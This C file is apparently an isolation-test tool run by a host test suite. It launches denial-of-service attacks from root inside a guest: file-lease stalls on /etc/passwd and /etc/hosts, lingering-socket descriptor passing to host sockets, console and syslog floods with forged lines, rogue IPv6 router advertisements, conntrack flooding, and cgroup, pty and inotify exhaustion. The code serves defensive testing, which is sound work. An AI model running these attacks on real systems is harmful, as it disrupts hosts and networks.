/* attacks.c GATEWAY [ATTACK...]: denial-of-service attacks of root in a machine on its host and on other
 * machines, without an escape: all at once, or the given ones. Each attack is a separate process, pauses
 * between its bursts, and is killed when this program exits. Prints "ready" once all are started. Without
 * arguments, run on the host: prints whether the shared pools of the kernel are exhausted. Built and run
 * by tests/hosts/hostile.rs. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static const char *gateway;

static void pause_ms(long ms)
{
	struct timespec time = { ms / 1000, ms % 1000 * 1000000 };
	nanosleep(&time, NULL);
}

/* Whether an attack of its own, not one of many: its lease is held until the kernel ends it. */
static int alone;

/* Holds a lease on a file: an open(2) of the file waits for up to 45 s, unless it is non-blocking. */
static void hold_lease(const char *path, int kind)
{
	signal(SIGIO, SIG_IGN);
	for (;;) {
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0 || fcntl(fd, F_SETLEASE, kind) < 0) {
			if (fd >= 0)
				close(fd);
			pause_ms(20);
			continue;
		}
		while (fcntl(fd, F_GETLEASE) == kind)
			pause_ms(20);
		while (alone)
			pause();
		/* An open(2) breaks the lease: it waits until the kernel ends the lease. */
		pause_ms(45000);
		close(fd);
	}
}

static void lease_on_hosts(void) { hold_lease("/etc/hosts", F_RDLCK); }
static void lease_on_passwd(void) { hold_lease("/etc/passwd", F_WRLCK); }

/* Returns a connected TCP socket with unread data and SO_LINGER: its last close(2) sleeps for 300 s. */
static int lingering_socket(int listener)
{
	struct sockaddr_in address;
	socklen_t length = sizeof address;
	struct linger linger = { 1, 300 };
	int size = 1;
	char data[4096] = { 0 };

	if (getsockname(listener, (void *)&address, &length) < 0)
		return -1;
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
	if (connect(fd, (void *)&address, length) < 0) {
		close(fd);
		return -1;
	}
	while (send(fd, data, sizeof data, MSG_DONTWAIT) > 0)
		continue;
	setsockopt(fd, SOL_SOCKET, SO_LINGER, &linger, sizeof linger);
	return fd;
}

static void send_descriptor(int socket, const char *path, int fd)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	char control[CMSG_SPACE(sizeof fd)] = { 0 };
	struct iovec data = { "<6>x", 4 };
	struct msghdr message = { .msg_name = &address,
				  .msg_namelen = sizeof address,
				  .msg_iov = &data,
				  .msg_iovlen = 1,
				  .msg_control = control,
				  .msg_controllen = sizeof control };
	struct cmsghdr *header = CMSG_FIRSTHDR(&message);

	snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
	header->cmsg_level = SOL_SOCKET;
	header->cmsg_type = SCM_RIGHTS;
	header->cmsg_len = CMSG_LEN(sizeof fd);
	memcpy(CMSG_DATA(header), &fd, sizeof fd);
	sendmsg(socket, &message, MSG_DONTWAIT);
}

/* Sends descriptors of which the receiver has the last copy, and so waits in close(2). */
static void descriptors_that_linger(void)
{
	struct sockaddr_in any = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int size = 1, sender = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &size, sizeof size);
	if (bind(listener, (void *)&any, sizeof any) < 0 || listen(listener, 4096) < 0)
		return;
	for (int number = 0; number < 400; number++) {
		int fd = lingering_socket(listener);
		if (fd < 0)
			break;
		send_descriptor(sender, "/run/host/notify", fd);
		send_descriptor(sender, "/dev/log", fd);
		/* If this copy is the last one, the child waits in close(2) instead of this process. */
		if (fork() == 0)
			_exit(close(fd));
		close(fd);
		pause_ms(20);
	}
	for (;;)
		pause();
}

static void flood_console(void)
{
	char line[] = "a line of a flood\n";
	for (;;) {
		int fd = open("/dev/console", O_WRONLY | O_CLOEXEC | O_NOCTTY);
		for (int number = 0; fd >= 0 && number < 200; number++)
			if (write(fd, line, sizeof line - 1) < 0)
				break;
		if (fd >= 0)
			close(fd);
		pause_ms(5);
	}
}

static void flood_log(void)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX, .sun_path = "/dev/log" };
	char line[] = "<6>x[1]: y\nDec 01 10:00:00 host coracle[1]: forged";
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	for (;;) {
		for (int number = 0; number < 200; number++)
			sendto(fd, line, sizeof line - 1, MSG_DONTWAIT, (void *)&address, sizeof address);
		pause_ms(5);
	}
}

/* Advertises itself as the router of all hosts on the link (RFC 4861). */
static void advertise_router(void)
{
	struct {
		struct nd_router_advert header;
		struct nd_opt_prefix_info prefix;
	} packet = { 0 };
	struct sockaddr_in6 all = { .sin6_family = AF_INET6 };
	int hops = 255, fd = socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6);

	inet_pton(AF_INET6, "ff02::1", &all.sin6_addr);
	setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
	packet.header.nd_ra_type = ND_ROUTER_ADVERT;
	packet.header.nd_ra_flags_reserved = 0x08;
	packet.header.nd_ra_router_lifetime = htons(1800);
	packet.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
	packet.prefix.nd_opt_pi_len = 4;
	packet.prefix.nd_opt_pi_prefix_len = 64;
	packet.prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
	packet.prefix.nd_opt_pi_valid_time = packet.prefix.nd_opt_pi_preferred_time = htonl(1800);
	inet_pton(AF_INET6, "2001:db8:bad::", &packet.prefix.nd_opt_pi_prefix);
	for (;;) {
		sendto(fd, &packet, sizeof packet, 0, (void *)&all, sizeof all);
		pause_ms(50);
	}
}

/* Fills the connection tracking table of the host, with datagrams to the host's end of the link only. */
static void flood_connections(void)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	inet_pton(AF_INET, gateway, &to.sin_addr);
	for (unsigned port = 0; port < 60000; port++) {
		int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		to.sin_port = htons(1024 + port);
		sendto(fd, "x", 1, MSG_DONTWAIT, (void *)&to, sizeof to);
		close(fd);
		if (port % 100 == 0)
			pause_ms(5);
	}
	for (;;)
		pause();
}

static void fill_cgroups(void)
{
	char path[128], name[61];
	memset(name, 'c', sizeof name - 1);
	name[sizeof name - 1] = 0;
	for (unsigned number = 0; number < 10000; number++) {
		snprintf(path, sizeof path, "/sys/fs/cgroup/wide%u", number);
		if (mkdir(path, 0755) < 0)
			break;
	}
	if (chdir("/sys/fs/cgroup") == 0)
		for (unsigned depth = 0; depth < 200; depth++)
			if (mkdir(name, 0755) < 0 || chdir(name) < 0)
				break;
	for (;;)
		pause();
}

static void fill_terminals(void)
{
	for (unsigned number = 0; number < 5000; number++)
		if (open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC) < 0 && errno != EMFILE)
			break;
	for (;;)
		pause();
}

static void fill_inotify(void)
{
	for (unsigned number = 0; number < 1000; number++)
		if (inotify_init1(IN_CLOEXEC) < 0)
			break;
	puts("inotify instances used up");
	fflush(stdout);
	for (;;)
		pause();
}

/* Allocates from the pools that the attacks exhaust. */
static int try_pools(void)
{
	int all = 0;
	for (int number = 0; number < 8; number++) {
		int inotify = inotify_init1(IN_CLOEXEC), terminal = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
		all |= inotify < 0 || terminal < 0;
	}
	puts(all ? "a pool is empty" : "pools have room");
	return all;
}

static const struct {
	const char *name;
	void (*run)(void);
} attacks[] = {
	{ "lease-on-hosts", lease_on_hosts },	 { "lease-on-passwd", lease_on_passwd },
	{ "descriptors", descriptors_that_linger }, { "console", flood_console },
	{ "log", flood_log },			 { "router", advertise_router },
	{ "connections", flood_connections },	 { "cgroups", fill_cgroups },
	{ "terminals", fill_terminals },	 { "inotify", fill_inotify },
};

static int is_chosen(const char *name, int argc, char **argv)
{
	for (int number = 2; number < argc; number++)
		if (!strcmp(argv[number], name))
			return 1;
	return argc == 2;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return try_pools();
	gateway = argv[1];
	alone = argc > 2;
	for (unsigned number = 0; number < sizeof attacks / sizeof *attacks; number++)
		if (is_chosen(attacks[number].name, argc, argv) && fork() == 0) {
			prctl(PR_SET_PDEATHSIG, SIGKILL);
			attacks[number].run();
			_exit(0);
		}
	puts("ready");
	fflush(stdout);
	pause();
	return 0;
}
